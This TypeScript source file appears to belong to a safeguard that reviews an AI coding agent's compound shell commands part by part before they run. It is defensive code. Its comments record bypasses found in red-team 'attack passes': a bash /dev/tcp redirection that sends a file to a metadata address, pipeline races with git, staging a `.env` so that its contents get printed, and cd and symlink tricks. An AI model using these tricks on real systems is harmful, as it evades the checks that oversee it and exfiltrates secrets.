import { judgePaths } from '../paths/judgePaths.js';
import type { PathAccess } from '../paths/judgePaths.js';
import { absolutize, dirnamePosix, isUnderProcOrDev, normalizePosix, placePhysically } from '../paths/posixPath.js';
import type { FdMap } from '../paths/processPaths.js';
import { fdsAfterRedirects, processPath } from '../paths/processPaths.js';
import type { Redirect, Script, WordDecoder } from '../shell/grammar/script.js';
import { countSimple } from '../shell/grammar/script.js';
import { scriptFromTree } from '../shell/grammar/scriptFromTree.js';
import { prepareText } from '../shell/grammar/hereText.js';
import { stdinReading } from '../policy/stdinPrograms.js';
import { tokenize } from '../shell/tokenize.js';
import type { Reason, Verdict } from '../verdict.js';
import type { NormalizedCommand } from '../reviewRequest.js';
import { ALLOW_NOTHING_FOUND, verdict } from '../verdict.js';
import { REASON_CODES } from '../reasonCodes.js';
import type { ReasonCode } from '../reasonCodes.js';
import { combineVerdicts } from '../verdict.js';
import { compoundRefusalAdvice } from './compoundAdvice.js';
import {
  assignmentCount,
  changesShell,
  coreWords,
  isAgentCwdFile,
  isEnvelopeBuiltin,
  makesLinks,
  namesRepoFile,
  printsTrackedContent,
  runsGit,
  mayChangeWhatGitPrints,
} from './compoundParts.js';
import { judgeEnvelopeEffects } from './envelopeEffects.js';
import { CLAUDE_VERSION_GUARDS } from '../shell/envelopes/claude.js';
import type { ReviewState } from './reviewState.js';
import type { CompoundPart } from './reviewTypes.js';
import { MAX_NESTING, step, pathContext } from './reviewState.js';
import { reviewWords } from './reviewWords.js';

export type { CompoundPart } from './reviewTypes.js';
import { expandWords, newGlobBudget } from '../shell/expansion/expandWords.js';
import type { GlobBudget } from '../shell/expansion/expandGlob.js';
import type { TextEdit } from '../shell/expansion/textEdits.js';
import { applyEdits, singleQuote } from '../shell/expansion/textEdits.js';

export interface CompoundOutcome {
  verdict: Verdict;
  parts: CompoundPart[];
  /** Set when agent envelope parts were recognised (`claude`); `reviewed` is the model's `eval` text. */
  envelope?: string;
  reviewed?: string;
  /** Where the text must change so that what runs is what was judged (expansions done by the review). */
  edits?: TextEdit[];
}

const MAX_PARTS = 64;
const MAX_CWDS = 4;
const SILENT_TARGETS = new Set(['/dev/null', '/dev/stdout', '/dev/stderr', '/dev/stdin']);
/** Agents whose envelope parts (snapshot source, cwd file) are recognised; unnamed agents too. */
const ENVELOPE_AGENTS = new Set(['claude']);

interface Walk {
  state: ReviewState;
  depth: number;
  strict: boolean;
  /** Assignment words from `NAME=value` and `export NAME=value` parts, given to every later part. */
  env: string[];
  parts: CompoundPart[];
  refusals: Map<ReasonCode, string>;
  /** A part that changed the shell in a way not followed: every later part is refused. */
  changedBy?: string;
  /** A part that can create or move symlinks: every later part is refused (its paths cannot be resolved yet). */
  linkedBy?: string;
  /** A part naming a repository file (HEAD, config, objects …): every later git part is refused. */
  repoChangedBy?: string;
  /** A part that may stage files (`git add -A`): a later git part printing tracked contents is refused. */
  indexChangedBy?: string;
  envelope?: string;
  evalTexts: string[];
  /** Edits of the text being walked (an `eval`'s text has its own, folded into its word). */
  edits: TextEdit[];
  budget: GlobBudget;
}
type Cwds = string[];

/** What a part may change on disk for the parts after it; in a pipeline, for all the others. */
const CONCURRENT_CHANGES = ['linkedBy', 'repoChangedBy', 'indexChangedBy'] as const;
interface Outcome {
  ok: Cwds;
  fail: Cwds;
}

const refuseVerdict = (reasons: readonly Reason[]): Verdict => ({
  decision: 'block',
  risk: 'medium',
  reasons: [...reasons],
  rule_ids: [],
});

/**
 * Shell text that is not one simple command, judged part by part with the shell grammar: every
 * simple command is judged by the ordinary review in the directory and environment it will run
 * in, every redirection by the path policy; the verdict is the strictest. `undefined` means the
 * grammar is not loaded (the caller refuses). `strict`: only an agent's own envelope parts may be
 * compound, and the model's command inside its `eval` must be one simple command.
 */
export function reviewCompound(
  text: string,
  state: ReviewState,
  depth: number,
  hop: 'agent' | 'nested',
  strict: boolean,
  decode: WordDecoder,
): CompoundOutcome | undefined {
  const grammar = state.facts.grammar?.loaded();
  if (!grammar) return undefined;
  // The workspace stays where the text started: a `cd` moves where later parts run, not where
  // writes need no approval (`cd / && echo x > o` writes outside the workspace).
  const pinned: ReviewState = { ...state, workspace: state.workspace ?? state.cwd };
  const w: Walk = {
    state: pinned,
    depth,
    strict,
    env: [],
    parts: [],
    refusals: new Map(),
    evalTexts: [],
    edits: [],
    budget: newGlobBudget(),
  };
  const agent = state.agent?.toLowerCase();
  const envelopeLevel = hop === 'agent' && depth === 0 && (!agent || ENVELOPE_AGENTS.has(agent));
  const body = envelopeLevel ? withoutVersionGuard(text, w, [state.cwd], depth) : text;
  const script = parseScript(body, w, decode);
  if (!script) return finish(w);
  walk(script, [state.cwd], w, envelopeLevel, depth, decode);
  return finish(w);
}

/**
 * Claude Code 2.1.332's bash version guard, first in its envelope (envelopes/claude.ts): a no-op on
 * the bash that runs it (5.x; an older one exits 126 before anything else). It is judged as the
 * envelope part it is, and the rest is parsed with `true` in its place (same status, same `&&`).
 */
function withoutVersionGuard(text: string, w: Walk, cwds: Cwds, depth: number): string {
  const guard = CLAUDE_VERSION_GUARDS.find((g) => text.startsWith(`${g} && `));
  if (!guard) return text;
  w.envelope = 'claude';
  addPart(
    w,
    depth,
    guard,
    [],
    cwds,
    verdict(
      'allow',
      'low',
      'envelope.version_guard',
      "Claude Code's bash version guard: stops a bash older than 4 or 5, does nothing on this one",
    ),
    undefined,
    true,
  );
  // Padded to the guard's length: positions in the parsed text stay positions in the agent's text
  // (expansions are written back there; review pass of 1 Dec 2026).
  return `${'true'.padEnd(guard.length)}${text.slice(guard.length)}`;
}

function finish(w: Walk): CompoundOutcome {
  const refused = w.refusals.size
    ? refuseVerdict(compoundRefusalAdvice([...w.refusals].map(([code, message]) => ({ code, message }))))
    : undefined;
  const all = [...w.parts.map((p) => p.verdict), ...(refused ? [refused] : [])];
  const v = combineVerdicts(...all);
  // Text at the agent's hop is the agent's own only when it was recognised as its envelope.
  if (!w.envelope) for (const p of w.parts) delete p.envelopePart;
  const out: CompoundOutcome = { verdict: v, parts: w.parts };
  if (w.edits.length) out.edits = w.edits;
  if (w.envelope) {
    out.envelope = w.envelope;
    if (w.evalTexts.length === 1) out.reviewed = w.evalTexts[0];
  }
  return out;
}

function refuse(w: Walk, code: ReasonCode, detail?: string): void {
  if (!w.refusals.has(code)) w.refusals.set(code, detail ? `${REASON_CODES[code]} (${detail})` : REASON_CODES[code]);
}

function parseScript(text: string, w: Walk, decode: WordDecoder): Script | undefined {
  const prepared = prepareText(text, w.state.facts.grammar!.loaded()!);
  if (!prepared.ok) {
    for (const r of prepared.reasons)
      if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
    return undefined;
  }
  const built = scriptFromTree(prepared.prepared, decode);
  if (!built.ok) {
    for (const r of built.reasons)
      if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
    return undefined;
  }
  if (countSimple(built.script) > MAX_PARTS) {
    refuse(w, 'syntax.too_many_parts', `more than ${MAX_PARTS} commands`);
    return undefined;
  }
  return built.script;
}

function union(a: Cwds, b: Cwds, w: Walk): Cwds {
  const out = [...a];
  for (const c of b) if (!out.includes(c)) out.push(c);
  if (out.length > MAX_CWDS) {
    refuse(w, 'syntax.too_many_parts', `more than ${MAX_CWDS} possible directories`);
    return out.slice(0, MAX_CWDS);
  }
  return out;
}

/**
 * Walks the script as bash runs it, carrying the directories a part may run in: `ok` after the
 * part succeeded, `fail` after it failed (a failed `cd` leaves the directory as it was).
 */
function walk(s: Script, cwds: Cwds, w: Walk, envelopeLevel: boolean, depth: number, decode: WordDecoder): Outcome {
  switch (s.kind) {
    case 'simple':
      return simple(s, cwds, w, envelopeLevel, depth, decode);
    case 'and': {
      const l = walk(s.left, cwds, w, envelopeLevel, depth, decode);
      const r = walk(s.right, l.ok, w, envelopeLevel, depth, decode);
      return { ok: r.ok, fail: union(l.fail, r.fail, w) };
    }
    case 'or': {
      const l = walk(s.left, cwds, w, envelopeLevel, depth, decode);
      const r = walk(s.right, l.fail, w, envelopeLevel, depth, decode);
      return { ok: union(l.ok, r.ok, w), fail: r.fail };
    }
    case 'seq': {
      let cur = cwds;
      let last: Outcome = { ok: cwds, fail: cwds };
      for (const item of s.items) {
        last = walk(item, cur, w, envelopeLevel, depth, decode);
        cur = union(last.ok, last.fail, w);
      }
      return last;
    }
    case 'pipe': {
      // Every element of a pipeline runs in a subshell (its `cd` does not outlive it), and all of
      // them at once: what one may change (symlinks, the index, HEAD, a repository file) can land
      // before the others read, the ones left of it too: `(sleep 1; git show) | git reset --soft
      // HEAD~2` (attack pass 24, F1). A trial walk finds whether any element changes something;
      // if one does, each element is walked with what the OTHER elements change known from the
      // start (a literal fed to the reader, `cat <<EOF | sh`, reads no path and is exempt).
      const items = feedLiterals(s.items);
      const copy = (): Walk => ({
        ...w,
        env: [...w.env],
        parts: [...w.parts],
        refusals: new Map(w.refusals),
        evalTexts: [...w.evalTexts],
        edits: [...w.edits],
        budget: { ...w.budget },
      });
      const trial = copy();
      for (const item of items) walk(item, cwds, trial, envelopeLevel, depth, decode);
      if (items.length < 2 || CONCURRENT_CHANGES.every((k) => trial[k] === w[k])) {
        Object.assign(w, trial);
        return { ok: cwds, fail: cwds };
      }
      const changesOf = items.map((item) => {
        const t = copy();
        walk(item, cwds, t, envelopeLevel, depth, decode);
        return CONCURRENT_CHANGES.filter((k) => t[k] !== w[k]).map((k) => [k, t[k]] as const);
      });
      items.forEach((item, j) => {
        if (!isLiteralFeeder(item))
          for (const [i, changes] of changesOf.entries()) if (i !== j) for (const [k, by] of changes) w[k] ??= by;
        walk(item, cwds, w, envelopeLevel, depth, decode);
      });
      return { ok: cwds, fail: cwds };
    }
    case 'subshell':
    case 'group': {
      // Which of the inner commands reads it is not followed.
      if (s.redirects.some((r) => r.here !== undefined)) {
        refuse(w, 'syntax.heredoc', `on a ${s.kind}; give it to the command that reads it`);
        return { ok: cwds, fail: cwds };
      }
      if (s.redirects.length)
        addPart(
          w,
          depth,
          `${s.kind === 'group' ? '{ … }' : '( … )'} redirections`,
          [],
          cwds,
          judgeRedirects(s.redirects, cwds, w),
        );
      const inner = walk(s.body, cwds, w, envelopeLevel, depth, decode);
      return s.kind === 'group' ? inner : { ok: cwds, fail: cwds };
    }
  }
}

function addPart(
  w: Walk,
  depth: number,
  text: string,
  argv: string[],
  cwds: Cwds,
  v: Verdict,
  forEngine?: CompoundPart['forEngine'],
  envelopeLevel?: boolean,
): void {
  const cwd = cwds.join(' | ');
  const part: CompoundPart = { text, argv, cwd, verdict: v };
  if (forEngine) part.forEngine = forEngine;
  if (envelopeLevel) part.envelopePart = true;
  w.parts.push(part);
  step(w.state, depth + 1, 'part', () => `${text}  (in ${cwd}): ${v.decision}`, v);
}

function judgeRedirects(rs: readonly Redirect[], cwds: Cwds, w: Walk, skip?: (r: Redirect) => boolean): Verdict {
  const parts: Verdict[] = [];
  for (const r of rs) {
    if ((r.op === '>&' || r.op === '<&') && /^([0-9]{1,2}|-)$/.test(r.target)) continue;
    if (r.here !== undefined) continue; // here-input: judged as what the command reads (stdinVerdict)
    if (SILENT_TARGETS.has(r.target) || skip?.(r)) continue;
    // bash opens `/dev/tcp/HOST/PORT` and `/dev/udp/…` as network sockets, in either direction
    // (attack pass 4: `cat f 3</dev/tcp/169.254.169.254/80 >&3` sends f): never a file.
    if (/^\/dev\/+(?:tcp|udp)\//.test(r.target) || /^\/dev\/(?:tcp|udp)\//.test(normalizePosix(r.target))) {
      parts.push(
        verdict(
          'block',
          'high',
          'url.raw_socket',
          `the redirection ${r.op} ${r.target} opens a network connection from bash itself, past the URL checks`,
          'urls:raw-socket',
        ),
      );
      continue;
    }
    const access: PathAccess = r.op === '<' ? 'read' : 'write';
    for (const cwd of cwds) {
      // The shell opens them in order: `3<DIR 4</dev/fd/3/x` opens DIR/x.
      const fds = fdsOf(rs.slice(0, rs.indexOf(r)), w.state.fds, cwd);
      parts.push(judgePaths([{ raw: r.target, access }], pathContext({ ...w.state, cwd, fds })).verdict);
    }
  }
  return combineVerdicts(...parts);
}

/** The descriptors a part runs with: those it inherits and those its redirections open (processPaths.ts). */
function fdsOf(rs: readonly Redirect[], inherited: FdMap | undefined, cwd: string): FdMap | undefined {
  return fdsAfterRedirects(rs, inherited, cwd, (t) => (t.startsWith('/') ? t : `${cwd}/${t}`));
}

function simple(
  s: Extract<Script, { kind: 'simple' }>,
  cwds: Cwds,
  w: Walk,
  envelopeLevel: boolean,
  depth: number,
  decode: WordDecoder,
): Outcome {
  const same: Outcome = { ok: cwds, fail: cwds };
  let { words } = s;
  if (s.expandable) {
    const done = expandPart(s, cwds, w);
    if (!done) return same;
    words = done;
  }
  const k = assignmentCount(words);
  const core = coreWords(words);
  const name = core[0];
  const strictRefusal = (): Outcome => {
    refuse(w, 'syntax.compound', `strict syntax: '${s.text}' is not part of the agent's envelope`);
    return same;
  };

  // `$(cat <<'EOF' … EOF)`: bash runs that cat (reading its here-document) before the part; a part of its own.
  for (const sub of s.substitutions ?? []) {
    const v = combineVerdicts(...cwds.map((cwd) => reviewWords(['cat'], { ...w.state, cwd }, depth + 2, undefined)));
    addPart(w, depth, sub.text, ['cat'], cwds, v);
  }
  // Agent envelope parts, only in the text the agent itself wrote (never inside its `eval`).
  if (envelopeLevel) {
    // A recognised part is allowed for what it is, and its redirections are still judged.
    const envelopePart = (code: 'envelope.snapshot_source' | 'envelope.cwd_file', message: string): Outcome => {
      w.envelope = 'claude';
      const v = combineVerdicts(verdict('allow', 'low', code, message), judgeRedirects(s.redirects, cwds, w));
      addPart(w, depth, s.text, words, cwds, v, undefined, true);
      return same;
    };
    if ((name === 'source' || name === '.') && core.length === 2 && k === 0 && core[1]!.startsWith('/')) {
      const effects = judgeEnvelopeEffects({ name: 'claude', sourced: [core[1]!] }, w.state, 'agent');
      if (effects.reasons.length === 0)
        return envelopePart('envelope.snapshot_source', `sources the agent's snapshot ${core[1]}`);
    }
    if (name === 'pwd' && k === 0 && core.join(' ') === 'pwd -P' && s.redirects.length === 1) {
      const r = s.redirects[0]!;
      if ((r.op === '>|' || r.op === '>') && r.fd === undefined && isAgentCwdFile(r.target)) {
        // Still judged as a write (envelopePart judges the redirection): `>|` follows a symlink
        // planted under the cwd file's name.
        return envelopePart('envelope.cwd_file', `writes the agent's cwd file ${r.target}`);
      }
    }
  }
  if (name === 'eval' && s.expandable) {
    refuse(w, 'syntax.eval', 'with an expansion in its words');
    return same;
  }
  if (name === 'eval' && k === 0) return evalPart(s, core, cwds, w, envelopeLevel, depth, decode);
  const input = hereInput(s.redirects);
  if (input !== undefined && k === 0 && core.length === 2 && stdinReading(core, input).kind === 'source') {
    // `source /dev/stdin <<'EOF'`: the text runs in this shell, like eval's (one level deeper).
    if (w.strict) return strictRefusal();
    addPart(w, depth, s.text, words, cwds, judgeRedirects(s.redirects, cwds, w));
    return walkText(input, `${name} of a here-document`, cwds, w, depth, decode);
  }
  if (w.strict && !(envelopeLevel && isEnvelopeBuiltin(core))) return strictRefusal();
  if (name === 'eval') {
    refuse(w, 'syntax.eval', 'with assignments before it');
    return same;
  }
  if (w.changedBy !== undefined) {
    refuse(w, 'syntax.shell_state', `'${w.changedBy}' before '${s.text}'; run it as a command of its own`);
    return same;
  }
  if (w.linkedBy !== undefined) {
    refuse(
      w,
      'syntax.links_changed',
      `'${w.linkedBy}' can create or move symlinks before '${s.text}'; run it as a command of its own`,
    );
    return same;
  }
  if (w.repoChangedBy !== undefined && runsGit(core)) {
    refuse(
      w,
      'syntax.repo_changed',
      `'${w.repoChangedBy}' may make a repository before '${s.text}'; run it as a command of its own`,
    );
    return same;
  }
  // The index, HEAD and history facts were read before anything ran: after `git add -A` the index
  // may hold an untracked `.env` that `git diff --cached` prints (attack pass 8, P8-07c), after
  // `git checkout OLD` HEAD's changes are another commit's. Run apart, the second command is
  // judged on what the first one left.
  if (w.indexChangedBy !== undefined && printsTrackedContent(core)) {
    refuse(
      w,
      'syntax.index_changed',
      `'${w.indexChangedBy}' may stage files or move HEAD or refs before '${s.text}', which prints tracked file contents`,
    );
    return same;
  }
  if (mayChangeWhatGitPrints(core)) w.indexChangedBy = s.text;
  if (changesShell(core) && !(envelopeLevel && isEnvelopeBuiltin(core))) w.changedBy = s.text;
  const written = s.redirects.filter((r) => r.op !== '<' && r.here === undefined).map((r) => r.target);
  if (namesRepoFile(core, written)) w.repoChangedBy = s.text;

  let out = same;
  if (name === 'cd' || name === 'pushd' || name === 'popd') {
    const args = core[1] === '--' ? core.slice(2) : core.slice(1);
    // `pushd +N`/`-N` rotate the directory stack: the directory is not the word.
    // A bare `pushd` swaps the top two stack entries, not `cd ~` (attack pass 17).
    // These and `popd` move to a directory of the stack, which is not followed: nothing after
    // them may run in the same text (changedBy), but they run, so `pushd src && make && popd`,
    // the idiom that leaves the shell where it was, is judged like `cd src && make`.
    const stackMove = name === 'popd' || (name === 'pushd' && (args.length === 0 || /^[-+]/.test(args[0] ?? '')));
    if (stackMove) w.changedBy ??= s.text;
    else if (args.length > 1 || (args[0] !== undefined && (/^[-+]/.test(args[0]) || args[0] === ''))) {
      refuse(w, 'syntax.cd', s.text);
      return same;
    }
    if (!stackMove) {
      const target = args[0] ?? w.state.facts.home;
      out = { ok: [], fail: cwds };
      for (const cwd of cwds) {
        // `cd /dev/fd/3 3<~` moves to ~; a directory the review cannot map stays as written, and
        // every path judged in it later asks (path.process_relative).
        const mapped = processPath(
          target.startsWith('/') ? target : `${cwd}/${target}`,
          cwd,
          fdsOf(s.redirects, w.state.fds, cwd),
        );
        const to = mapped?.kind === 'mapped' ? mapped.path : target;
        const dest = cdDestination(to, cwd, w.state.facts);
        if (dest === undefined) {
          refuse(w, 'syntax.cd', s.text);
          return same;
        }
        out.ok = union(out.ok, [dest], w);
      }
    }
  }
  const reading = input === undefined ? undefined : stdinReading(core, input);
  // A shell or interpreter reading the text as its program is judged as if given it with -c.
  const run =
    reading?.kind === 'shell' || reading?.kind === 'interpreter'
      ? [...words.slice(0, words.length - core.length), ...reading.argv]
      : words;
  const judged = w.env.length ? [...w.env, ...run] : run;
  const verdicts: Verdict[] = [];
  if (reading)
    step(
      w.state,
      depth + 1,
      'stdin',
      () => `here-input of ${name}: ${reading.kind === 'program' ? reading.what : reading.kind}`,
    );
  if (reading?.kind === 'program')
    verdicts.push(verdict('ask', 'high', 'command.inline_code', `the here-document is a program: ${reading.what}`));
  // Normalised commands only for a Rego engine: the native hot path does not build them.
  const forEngine =
    w.state.config.engine === 'native'
      ? undefined
      : { judged: [] as Array<{ cwd: string; normalized: NormalizedCommand }>, redirects: ALLOW_NOTHING_FOUND };
  // Shared with a part this text runs inside (`bash -c 'a && ln …'`): what it makes counts there too.
  const links = w.state.links ?? { made: false };
  for (const cwd of cwds) {
    const n: NormalizedCommand | undefined = forEngine && {
      command: s.text,
      argv: [...judged],
      envAssignments: {},
      wrappers: [],
      effectiveArgv: [],
      paths: [],
      urls: [],
    };
    const fds = fdsOf(s.redirects, w.state.fds, cwd);
    verdicts.push(
      reviewWords(
        judged,
        fds === undefined ? { ...w.state, cwd, links } : { ...w.state, cwd, fds, links },
        depth + 2,
        n,
      ),
    );
    if (forEngine && n) {
      if (n.effectiveArgv.length === 0) n.effectiveArgv = [...judged];
      forEngine.judged.push({ cwd, normalized: n });
    }
  }
  // After the review: it saw every command this part runs, wrapped or nested ones included.
  if (links.made || makesLinks(core)) w.linkedBy = s.text;
  const redirects = judgeRedirects(s.redirects, cwds, w);
  verdicts.push(redirects);
  if (forEngine) forEngine.redirects = redirects;
  addPart(w, depth, s.text, words, cwds, combineVerdicts(...verdicts), forEngine, envelopeLevel);
  if (k === words.length || (name === 'export' && k === 0)) {
    // Later parts run with these variables set: they are judged as if each had them in front.
    for (const a of k === words.length ? words : core.slice(1)) if (a.includes('=')) w.env.push(a);
  }
  return out;
}

/** `cat <<EOF` that feeds its literal to the next element (feedLiterals): it reads no path. */
function isLiteralFeeder(s: Script): s is Extract<Script, { kind: 'simple' }> {
  // Any other redirection of cat (its stdout elsewhere): not followed.
  return (
    s.kind === 'simple' &&
    s.words.length === 1 &&
    s.words[0] === 'cat' &&
    s.redirects.length === 1 &&
    hereInput(s.redirects) !== undefined
  );
}

/**
 * `cat <<'EOF' | sh`: a bare `cat` of a here-document writes exactly its body into the pipe, so the
 * next command is judged as reading that body (a shell reading it is judged as that shell text).
 */
function feedLiterals(items: readonly Script[]): Script[] {
  const out = [...items];
  for (let i = 0; i + 1 < out.length; i++) {
    const a = out[i]!;
    const b = out[i + 1]!;
    // Another redirection of the reader's stdin: not followed.
    if (
      !isLiteralFeeder(a) ||
      b.kind !== 'simple' ||
      b.redirects.some((r) => (r.fd ?? 0) === 0 && r.op.startsWith('<'))
    )
      continue;
    out[i + 1] = { ...b, redirects: [{ op: '<<', target: '', here: hereInput(a.redirects)! }, ...b.redirects] };
  }
  return out;
}

/** What the command reads on stdin from a here-document or here-string (the last redirection of fd 0 wins). */
function hereInput(rs: readonly Redirect[]): string | undefined {
  let input: string | undefined;
  for (const r of rs) {
    if ((r.fd ?? 0) !== 0 || !r.op.startsWith('<')) continue;
    input = r.here;
  }
  return input;
}

/** Shell text that runs in this same shell (eval's argument, a sourced here-document), walked one level deeper. */
function walkText(inner: string, what: string, cwds: Cwds, w: Walk, depth: number, decode: WordDecoder): Outcome {
  const same: Outcome = { ok: cwds, fail: cwds };
  if (depth + 1 > MAX_NESTING) {
    addPart(
      w,
      depth,
      what,
      [],
      cwds,
      verdict('block', 'high', 'command.nesting_too_deep', `${what} nested deeper than ${MAX_NESTING}`),
    );
    return same;
  }
  step(w.state, depth + 1, 'eval', () => `${what} ${JSON.stringify(inner)}: reviewed as shell text`);
  const tok = decode(inner);
  const script: Script | undefined = tok.ok
    ? { kind: 'simple', text: inner, words: tok.words, redirects: [] }
    : parseScript(inner, w, decode);
  if (!script) return same;
  const wasStrict = w.strict;
  w.strict = false;
  // Its words live in the body's own text, not in the command's: an expansion there cannot be
  // written into what runs (review pass of 1 Dec 2026: `. /dev/stdin <<< ': ./evil*.sh'`).
  const outer = w.edits;
  w.edits = [];
  const out = walk(script, cwds, w, false, depth + 1, decode);
  if (w.edits.length)
    refuse(w, 'syntax.rewrite_unavailable', `${what}: expand the words in the command itself, not in its input`);
  w.edits = outer;
  w.strict = wasStrict;
  return out;
}

/** `eval 'TEXT'`: the text runs in this same shell, so it is walked here, one level deeper. */
function evalPart(
  s: Extract<Script, { kind: 'simple' }>,
  core: string[],
  cwds: Cwds,
  w: Walk,
  envelopeLevel: boolean,
  depth: number,
  decode: WordDecoder,
): Outcome {
  const same: Outcome = { ok: cwds, fail: cwds };
  if (core.length !== 2) {
    refuse(w, 'syntax.eval', `${core.length - 1} arguments; give eval one quoted string`);
    return same;
  }
  if (depth + 1 > MAX_NESTING) {
    addPart(
      w,
      depth,
      s.text,
      s.words,
      cwds,
      verdict('block', 'high', 'command.nesting_too_deep', `eval nested deeper than ${MAX_NESTING}`),
    );
    return same;
  }
  const inner = core[1]!;
  if (envelopeLevel) w.evalTexts.push(inner);
  if (s.redirects.length) addPart(w, depth, `${s.text} redirections`, [], cwds, judgeRedirects(s.redirects, cwds, w));
  step(w.state, depth + 1, 'eval', () => `eval of ${JSON.stringify(inner)}: reviewed as shell text`);
  const tok = decode(inner);
  let script: Script | undefined;
  if (tok.ok) script = { kind: 'simple', text: inner, words: tok.words, redirects: [] };
  else if (w.strict) {
    for (const r of tok.reasons)
      if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
    return same;
  } else script = parseScript(inner, w, decode);
  if (!script) return same;
  const wasStrict = w.strict;
  // In strict mode the model's command inside the envelope is one simple command, judged as usual.
  w.strict = false;
  const outer = w.edits;
  w.edits = [];
  const out = walk(script, cwds, w, false, depth + 1, decode);
  const innerEdits = w.edits;
  w.edits = outer;
  w.strict = wasStrict;
  if (innerEdits.length) {
    // The eval's text is rewritten, then given back to eval as one single-quoted word.
    const span = s.spans?.[s.words.length - core.length + 1];
    const rewritten = applyEdits(inner, innerEdits);
    if (!span || s.at === undefined || rewritten === undefined)
      refuse(w, 'syntax.rewrite_unavailable', 'the eval word could not be rewritten');
    else
      w.edits.push({
        start: s.at + span[0],
        end: s.at + span[1],
        replacement: singleQuote(rewritten),
        original: s.text.slice(span[0], span[1]),
      });
  }
  return out;
}

/** The part's words after the review's own expansion (knownVariables.ts, expandGlob.ts); undefined when refused. */
function expandPart(s: Extract<Script, { kind: 'simple' }>, cwds: Cwds, w: Walk): string[] | undefined {
  if (w.strict) {
    for (const p of s.expandable!.plans) refuse(w, p.glob ? 'syntax.glob' : 'syntax.expansion', 'strict syntax');
    return undefined;
  }
  const assigned = new Set(w.env.map((a) => a.slice(0, a.indexOf('='))));
  const facts = w.state.facts;
  const x = expandWords(
    s.expandable!,
    {
      cwd: cwds.length === 1 ? cwds[0] : undefined,
      vars: facts.shellVars,
      assigned,
      listDir: facts.listDir ? (d) => facts.listDir!(d) : undefined,
      budget: w.budget,
    },
    s.at ?? 0,
  );
  if (!x.ok) {
    for (const r of x.reasons)
      if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
    return undefined;
  }
  if (s.at === undefined && x.edits.length) {
    refuse(w, 'syntax.rewrite_unavailable', s.text);
    return undefined;
  }
  const at = s.at ?? 0;
  w.edits.push(...x.edits.map((e) => ({ ...e, original: s.text.slice(e.start - at, e.end - at) })));
  step(w.state, w.depth + 1, 'expansion', () => `${s.text} → ${JSON.stringify(x.words)}`);
  return x.words;
}

/** The tokenizer as the word decoder of every part (the same words a simple command gets). */
export function tokenizerDecoder(
  home: string,
  acceptGlobs: (words: string[], globWords: number[]) => boolean,
): WordDecoder {
  return (text) => {
    const t = tokenize(text, { home, expand: true, spans: true });
    if (t.ok) return t;
    if (t.globbed && acceptGlobs(t.globbed.words, t.globbed.globWords))
      return { ok: true, words: t.globbed.words, spans: t.expandable?.spans };
    if (t.expandable) return { ok: false, reasons: t.reasons, expandable: t.expandable };
    return { ok: false, reasons: t.reasons };
  };
}

/**
 * Where bash's `cd` lands (-L, its default): the logical path, `..` taken off the spelling, when
 * every directory a `..` leaves exists; otherwise bash falls back to the physical walk of the same
 * text (`cd Q/../ws/..` with Q -> . and no ws/ws lands in HOME, attack pass 16). undefined: that
 * walk cannot be placed before the command runs (a `..` after a name that does not exist yet).
 */
function cdDestination(to: string, cwd: string, facts: ReviewState['facts']): string | undefined {
  const logical = normalizePosix(absolutize(to, cwd));
  const raw = to.startsWith('/') ? to : `${cwd}/${to}`;
  const exists = facts.entryExists;
  if (exists === undefined || !raw.split('/').includes('..')) return logical;
  const realpath = (p: string): string => facts.realpath(p);
  const isThere = (p: string): boolean => {
    const placed = placePhysically(p, realpath, exists);
    return placed.unplaceable === undefined && exists(placed.path);
  };
  let current = '/';
  let holds = true;
  for (const seg of raw.split('/')) {
    if (seg === '' || seg === '.') continue;
    if (seg === '..') {
      if (!isThere(current)) {
        holds = false;
        break;
      }
      current = dirnamePosix(current);
    } else current = current === '/' ? `/${seg}` : `${current}/${seg}`;
  }
  if (holds) return logical;
  const physical = placePhysically(raw, realpath, exists);
  return physical.unplaceable === undefined && !isUnderProcOrDev(physical.path) ? physical.path : undefined;
}
